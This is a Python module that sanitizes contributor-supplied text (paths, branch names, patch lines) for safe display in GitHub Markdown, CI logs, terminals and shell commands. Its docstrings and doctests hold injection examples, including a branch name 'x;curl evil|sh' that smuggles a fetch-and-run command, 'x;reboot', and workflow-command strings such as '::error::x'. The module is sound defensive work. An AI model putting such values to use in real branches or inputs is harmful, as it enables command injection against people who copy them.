"""What contributors wrote, made harmless for the place it is shown in.

Paths, subjects, names, branches and the lines of a patch are chosen by whoever opens a pull
request. On GitHub they must not mention people, close a code block or become HTML; in a log they
must not be read as a workflow command; on a terminal they must not move the cursor.
"""

import re
import shlex
import unicodedata

#: Longest contributor text shown in full; longer ones are cut in the middle, so that both the
#: folder and the file name of a long path can still be read.
MAX_SHOWN = 160

#: Unicode's control, format (bidirectional overrides among them), surrogate, private-use and
#: line-separator characters: nothing of them can be seen, all of them can mislead.
UNSEEN = frozenset({"Cc", "Cf", "Cs", "Co", "Zl", "Zp"})

#: The runner's first command syntax is found anywhere in a line of a log, not only at its start.
#: https://github.com/actions/runner/blob/main/src/Runner.Common/ActionCommand.cs
OLD_COMMAND = "##["


def visible(text: str, *, longest: int = MAX_SHOWN) -> str:
    r"""Show text on one line: what cannot be seen is written as an escape, long text is cut.

    >>> visible("a\nb\x1b[31m")
    'a\\nb\\x1b[31m'
    >>> visible("caf\udce9.py")
    'caf\\xe9.py'
    """
    shown = "".join(_escape(char) for char in text)
    if len(shown) > longest:
        half = (longest - 3) // 2
        shown = f"{shown[:half]}...{shown[-half:]}"
    return shown


def _escape(char: str) -> str:
    if char.isascii() and char.isprintable():
        return char
    if unicodedata.category(char) not in UNSEEN:
        return char
    if "\udc80" <= char <= "\udcff":  # a byte that is no UTF-8, kept by surrogateescape
        return f"\\x{ord(char) - 0xDC00:02x}"
    return char.encode("unicode_escape").decode("ascii")


def code(text: str) -> str:
    r"""Show text as a Markdown code span, where GitHub neither mentions nor links anything.

    The span is fenced by one more backtick than the text has in a row, so the text cannot end
    it; text without a line break cannot end the paragraph around it.
    https://github.github.com/gfm/#code-spans

    >>> code("src/@octocat.py")
    '`src/@octocat.py`'
    >>> code("a`<b>``")
    '``` a`<b>`` ```'
    """
    shown = visible(text)
    if not shown.strip():
        return "`(empty)`"
    longest = max((len(run) for run in re.findall("`+", shown)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if shown[0] == "`" or shown[-1] == "`" else ""
    return f"{fence}{pad}{shown}{pad}{fence}"


def prose(text: str) -> str:
    r"""Show text in the middle of Markdown, as plain words: no markup, no mention, no HTML.

    >>> prose("see <b>*this*</b>")
    'see \\<b\\>\\*this\\*\\</b\\>'
    """
    escaped = re.sub(r"([\\`*_\[\]<>|~&#!])", r"\\\1", visible(text))
    # An escaped @ would still mention: GitHub looks for mentions in what was rendered.
    return escaped.replace("@", "@\u200b")


def shell_word(text: str) -> str:
    """Quote text so that pasting it into a shell cannot run anything.

    A branch may be called ``x;curl evil|sh``: git allows it, and people copy our commands.

    >>> shell_word("feature/x")
    'feature/x'
    >>> shell_word("x;reboot")
    "'x;reboot'"
    """
    word = shlex.quote("".join(_escape(char) for char in text))
    # The same word to a shell, and no longer a command to a runner that prints it.
    return word.replace(OLD_COMMAND, "#''#[")


def plain(text: str, *, longest: int = MAX_SHOWN) -> str:
    """Show text in a log or on a terminal, where it must not be read as a workflow command.

    >>> plain("x ##[add-path]/tmp")
    'x # #[add-path]/tmp'
    """
    return visible(text, longest=longest).replace(OLD_COMMAND, "# #[")


def plain_start(text: str) -> str:
    """Show text, mostly a path, where a line begins: a leading ``::`` would be a command there.

    >>> plain_start("::error::x")
    './::error::x'
    """
    shown = plain(text)
    return f"./{shown}" if shown.lstrip().startswith("::") else shown


def command_data(text: str) -> str:
    r"""Escape the message of a workflow command.

    https://github.com/actions/toolkit/blob/main/packages/core/src/command.ts

    >>> command_data("50%\n::error::x")
    '50%25%0A::error::x'
    """
    return text.replace("%", "%25").replace("\r", "%0D").replace("\n", "%0A")


def command_property(text: str) -> str:
    """Escape a property of a workflow command, such as ``file``.

    >>> command_property("a,line=1::b")
    'a%2Cline=1%3A%3Ab'
    """
    return command_data(text).replace(":", "%3A").replace(",", "%2C")
